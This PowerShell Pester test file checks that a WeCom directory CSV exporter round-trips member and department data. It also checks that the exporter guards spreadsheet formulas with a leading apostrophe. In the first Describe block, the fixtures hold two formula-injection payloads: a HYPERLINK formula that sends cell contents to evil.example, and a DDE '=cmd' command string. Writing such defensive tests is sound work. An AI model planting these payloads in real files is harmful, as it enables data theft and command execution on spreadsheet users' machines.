# SnapshotCsv (the engine behind Export-WeComDirectory -Format Csv) read back with Import-Csv: block files
# written by hand with hostile values, and a real emulator export received with -OutputDirectory whose CSV
# rows must equal the records Receive-WeComExport gives for the same jobs. Reading rules (docs/design.md,
# "Excel-ready CSV"): drop one leading apostrophe (the formula guard); split lists on unescaped ';' and
# paths on unescaped '/', a backslash taking the next character literally.

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Join-Path (Get-TestModulePath) 'WeComExport.psd1') -Force

    function Get-CsvValue([string] $Cell) {
        if ($Cell.StartsWith("'")) { $Cell.Substring(1) } else { $Cell }
    }

    # Each function emits its items one by one: wrap a call in @() for an array.
    function Split-CsvList([string] $Cell, [char] $Separator = ';') {
        if ($Cell.Length -eq 0) { return }
        if ($Cell.IndexOf([char] '\') -lt 0) { return $Cell.Split($Separator) }
        $items = [Collections.Generic.List[string]]::new()
        $current = [Text.StringBuilder]::new()
        for ($i = 0; $i -lt $Cell.Length; $i++) {
            if ($Cell[$i] -eq '\') { $null = $current.Append($Cell[++$i]) }
            elseif ($Cell[$i] -eq $Separator) { $items.Add($current.ToString()); $null = $current.Clear() }
            else { $null = $current.Append($Cell[$i]) }
        }
        $items.Add($current.ToString())
        $items
    }

    # A DepartmentPath cell split into its paths, still escaped (as departments.csv spells them).
    function Split-CsvRawPaths([string] $Cell) {
        if ($Cell.Length -eq 0) { return }
        if ($Cell.IndexOf([char] '\') -lt 0) { return $Cell.Split(';') }
        $paths = [Collections.Generic.List[string]]::new()
        $current = [Text.StringBuilder]::new()
        for ($i = 0; $i -lt $Cell.Length; $i++) {
            if ($Cell[$i] -eq '\') { $null = $current.Append($Cell[$i]).Append($Cell[++$i]) }
            elseif ($Cell[$i] -eq ';') { $paths.Add($current.ToString()); $null = $current.Clear() }
            else { $null = $current.Append($Cell[$i]) }
        }
        $paths.Add($current.ToString())
        $paths
    }

    # A DepartmentPath cell split into paths, each emitted as one array of names.
    function Split-CsvPaths([string] $Cell) {
        foreach ($path in @(Split-CsvRawPaths $Cell)) { , @(Split-CsvList $path '/') }
    }

    function New-BlockFile([string] $Folder, [string] $Name, [string] $Json) {
        $path = Join-Path $Folder $Name
        [IO.File]::WriteAllText($path, $Json, [Text.UTF8Encoding]::new($false))
        [WeComExport.Snapshots.SnapshotFile]::new($Name, (Get-Item -LiteralPath $path).Length, '', 0)
    }

    function New-SnapshotExport([string] $Kind, [string] $JobId, [WeComExport.Snapshots.SnapshotFile[]] $Files) {
        [WeComExport.Snapshots.SnapshotExport]::new([WeComExport.Export.ExportKind] $Kind, $JobId, $null, $null, $Files.Count, 0, $Files)
    }

    function Invoke-SnapshotCsv([string] $Folder, [WeComExport.Snapshots.SnapshotExport[]] $Exports) {
        [WeComExport.Snapshots.SnapshotCsv]::WriteAsync($Folder, $Exports, [Threading.CancellationToken]::None).GetAwaiter().GetResult()
    }
}

Describe 'members.csv from hand-written blocks with hostile values, read back with Import-Csv' {
    BeforeAll {
        $script:Folder = Join-Path $TestDrive 'hostile'
        $null = New-Item -ItemType Directory $Folder
        $departments = New-BlockFile $Folder 'department.block0000.json' (@{ department = @(
                    @{ id = 1; name = '总部'; parentid = 0 }
                    @{ id = 2; name = '研发'; parentid = 1 }
                    @{ id = 3; name = '后台组'; parentid = 2 }
                    @{ id = 4; name = 'A/B;C\D'; parentid = 3 }
                ) } | ConvertTo-Json -Depth 5)
        $script:Members = @(
            [ordered]@{ userid = 'zhangsan'; name = '=HYPERLINK("http://evil.example/?"&A1,"click")'; department = @(1, 2); position = "后台`t工程师`r`nline2 ""quoted"", comma"; status = 1; gender = '1'; direct_leader = @('a;b', 'c\d') }
            [ordered]@{ userid = 'wang,wu'; name = "=cmd|' /C calc'!A0"; department = @(4, 99); position = ' padded '; mobile = '+86 13800000000'; alias = "'apostrophe" }
            [ordered]@{ userid = 'lisi'; name = '李四'; department = @(); extattr = @{ attrs = @(@{ type = 0; name = '工号'; text = @{ value = "A`t1" } }, @{ type = 1; name = '主页'; web = @{ url = 'https://example.com/u/lisi'; title = '我的主页' } }) }; future = @{ x = 1 } }
        )
        $users = New-BlockFile $Folder 'user.block0000.json' (@{ userlist = $Members } | ConvertTo-Json -Depth 6)
        $script:Written = Invoke-SnapshotCsv $Folder @(
            (New-SnapshotExport User 'jobid_user' $users),
            (New-SnapshotExport Department 'jobid_department' $departments))
        $script:Rows = @(Import-Csv -LiteralPath (Join-Path $Folder 'members.csv') -Encoding utf8)
    }

    It 'returns members.csv and departments.csv with their rows, sizes and SHA-256' {
        $Written.Name | Should -Be 'members.csv', 'departments.csv'
        $Written[0].Records | Should -Be 3
        $Written[1].Records | Should -Be 4
        foreach ($file in $Written) {
            $path = Join-Path $Folder $file.Name
            $file.Bytes | Should -Be (Get-Item -LiteralPath $path).Length
            $file.Sha256 | Should -Be (Get-FileHash -LiteralPath $path -Algorithm SHA256).Hash.ToLowerInvariant()
            [IO.File]::ReadAllBytes($path)[0..2] | Should -Be 0xEF, 0xBB, 0xBF
        }
    }

    It 'gives every member back exactly: userid, name, departments, position with tabs, newlines and quotes' {
        $Rows.Count | Should -Be 3
        for ($i = 0; $i -lt 3; $i++) {
            $Rows[$i].UserId | Should -BeExactly $Members[$i].userid
            Get-CsvValue $Rows[$i].Name | Should -BeExactly $Members[$i].name
            $Rows[$i].Department | Should -BeExactly ($Members[$i].department -join ';')
            Get-CsvValue $Rows[$i].Position | Should -BeExactly ([string] $Members[$i].position)
        }
        Split-CsvList $Rows[0].DirectLeader | Should -BeExactly 'a;b', 'c\d'
        Get-CsvValue $Rows[1].Mobile | Should -BeExactly '+86 13800000000'
        Get-CsvValue $Rows[1].Alias | Should -BeExactly "'apostrophe"
    }

    It 'guards formulas with one leading apostrophe' {
        $Rows[0].Name | Should -BeExactly ("'" + $Members[0].name)
        $Rows[1].Name | Should -BeExactly ("'" + $Members[1].name)
        $Rows[1].Alias | Should -BeExactly "''apostrophe"
        $Rows[2].Name | Should -BeExactly '李四'
    }

    It 'names the departments and their full paths; an unknown id gives empty items' {
        Split-CsvList $Rows[0].DepartmentName | Should -BeExactly '总部', '研发'
        $paths = @(Split-CsvPaths $Rows[1].DepartmentPath)
        $paths.Count | Should -Be 2
        $paths[0] | Should -BeExactly '总部', '研发', '后台组', 'A/B;C\D'
        $paths[1] | Should -BeNullOrEmpty
        $Rows[1].DepartmentName | Should -BeExactly 'A/B\;C\\D;'
    }

    It 'has a column per extended attribute and the unknown fields as JSON' {
        $Rows[2].'ExtAttr.工号' | Should -BeExactly "A`t1"
        $Rows[2].'ExtAttr.主页' | Should -BeExactly '我的主页 <https://example.com/u/lisi>'
        $Rows[0].'ExtAttr.工号' | Should -BeExactly ''
        ($Rows[2].AdditionalFields | ConvertFrom-Json).future.x | Should -Be 1
        $Rows[0].StatusText | Should -Be 'Active'
        $Rows[0].GenderText | Should -Be 'Male'
    }

    It 'is the owner''s only on Unix' -Skip:$IsWindows {
        (Get-Item -LiteralPath (Join-Path $Folder 'members.csv')).UnixFileMode | Should -Be ([IO.UnixFileMode] 'UserRead, UserWrite')
    }
}

Describe 'members.csv of an emulator export equals the records Receive-WeComExport gives' {
    BeforeAll {
        # 12,000 members: 2 member blocks at BlockSize 10000; Position of every 53rd member is the emulator's
        # stress string (quotes, backslashes, an emoji, a tab, a newline, C0 controls); department 3's name too.
        $script:Emulator = Start-TestEmulator -Members 12000
        $script:Session = Connect-TestCorp $Emulator
        $script:Folder = Join-Path $TestDrive 'emulator'
        $userJob = Start-WeComUserExport -Detailed -BlockSize 10000 -Session $Session | Wait-WeComExport -PollInterval 0.1 -ErrorAction Stop
        $departmentJob = Start-WeComDepartmentExport -Session $Session | Wait-WeComExport -PollInterval 0.1 -ErrorAction Stop
        $userFiles = @($userJob | Receive-WeComExport -OutputDirectory $Folder -ErrorAction Stop | Sort-Object Name)
        $departmentFiles = @($departmentJob | Receive-WeComExport -OutputDirectory $Folder -ErrorAction Stop | Sort-Object Name)
        $script:Users = @($userJob | Receive-WeComExport -ErrorAction Stop)
        $script:Departments = @($departmentJob | Receive-WeComExport -ErrorAction Stop)

        $asSnapshotFiles = { param($files) foreach ($f in $files) { [WeComExport.Snapshots.SnapshotFile]::new($f.Name, $f.Length, '', 0) } }
        $script:Written = Invoke-SnapshotCsv $Folder @(
            (New-SnapshotExport User $userJob.JobId @(& $asSnapshotFiles $userFiles)),
            (New-SnapshotExport Department $departmentJob.JobId @(& $asSnapshotFiles $departmentFiles)))
        $script:Rows = @(Import-Csv -LiteralPath (Join-Path $Folder 'members.csv') -Encoding utf8)
        $script:UserFileCount = $userFiles.Count
    }
    AfterAll {
        if ($script:Session) { Disconnect-WeCom -Session $script:Session }
        Stop-TestEmulator $script:Emulator
    }

    It 'has one row per record, in block order, over both blocks' {
        $UserFileCount | Should -Be 2
        $Written[0].Records | Should -Be $Users.Count
        $Rows.Count | Should -Be $Users.Count
    }

    It 'every row equals its record: ids, names, departments, detail fields, stress strings exactly' {
        $byId = @{}
        foreach ($d in $Departments) { $byId[$d.Id] = $d }
        $chainOf = @{}
        $mismatches = [Collections.Generic.List[string]]::new()
        $stress = 0
        for ($i = 0; $i -lt $Users.Count; $i++) {
            $u = $Users[$i]
            $row = $Rows[$i]
            $expected = [ordered]@{
                UserId         = $u.UserId
                Name           = $u.Name
                Department     = $u.Department -join ';'
                Position       = [string] $u.Position
                Mobile         = [string] $u.Mobile
                Email          = [string] $u.Email
                Status         = [string] $u.Status
                Gender         = [string] $u.Gender
                Alias          = [string] $u.Alias
                EnglishName    = [string] $u.EnglishName
                Telephone      = [string] $u.Telephone
                Address        = [string] $u.Address
                OpenUserId     = [string] $u.OpenUserId
                MainDepartment = [string] $u.MainDepartment
                DirectLeader   = $u.DirectLeader -join ';'
                Order          = $u.Order -join ';'
            }
            foreach ($column in $expected.Keys) {
                $actual = Get-CsvValue $row.$column
                if (-not [string]::Equals($actual, $expected[$column], [StringComparison]::Ordinal)) { $mismatches.Add("$($u.UserId).$column") }
            }
            $names = @(Split-CsvList $row.DepartmentName)
            $paths = @(Split-CsvPaths $row.DepartmentPath)
            for ($k = 0; $k -lt $u.Department.Count; $k++) {
                $department = $byId[$u.Department[$k]]
                if ($names[$k] -cne $department.Name) { $mismatches.Add("$($u.UserId).DepartmentName[$k]") }
                if (-not $chainOf.ContainsKey($department.Id)) {
                    $chain = [Collections.Generic.List[string]]::new()
                    for ($d = $department; $null -ne $d; $d = if ($d.ParentId) { $byId[$d.ParentId] } else { $null }) { $chain.Insert(0, $d.Name) }
                    $chainOf[$department.Id] = $chain -join "`0"
                }
                if ((@($paths[$k]) -join "`0") -cne $chainOf[$department.Id]) { $mismatches.Add("$($u.UserId).DepartmentPath[$k]") }
            }
            foreach ($attr in $u.ExtAttr.Attrs) {
                $value = if ($attr.TextValue) { $attr.TextValue } else { "$($attr.WebTitle) <$($attr.WebUrl)>" }
                if ((Get-CsvValue $row."ExtAttr.$($attr.Name)") -cne $value) { $mismatches.Add("$($u.UserId).ExtAttr.$($attr.Name)") }
            }
            if ($u.Position -match "`t") { $stress++ }
        }
        $mismatches | Select-Object -First 10 | Should -BeNullOrEmpty
        $stress | Should -BeGreaterThan 100 -Because 'the stress string (tab, newline, quotes) must have been compared'
    }

    It 'writes departments.csv whose paths equal the members'' path items' {
        $departmentRows = @(Import-Csv -LiteralPath (Join-Path $Folder 'departments.csv') -Encoding utf8)
        $departmentRows.Count | Should -Be $Departments.Count
        $pathOf = @{}
        foreach ($d in $departmentRows) { $pathOf[$d.Id] = Get-CsvValue $d.Path }
        $row = $Rows | Where-Object { ($_.Department -split ';') -contains '3' } | Select-Object -First 1
        $row | Should -Not -BeNullOrEmpty -Because 'some member is in department 3, whose name holds the stress string'
        $k = [array]::IndexOf(($row.Department -split ';'), '3')
        @(Split-CsvRawPaths $row.DepartmentPath)[$k] | Should -BeExactly $pathOf['3']
    }
}
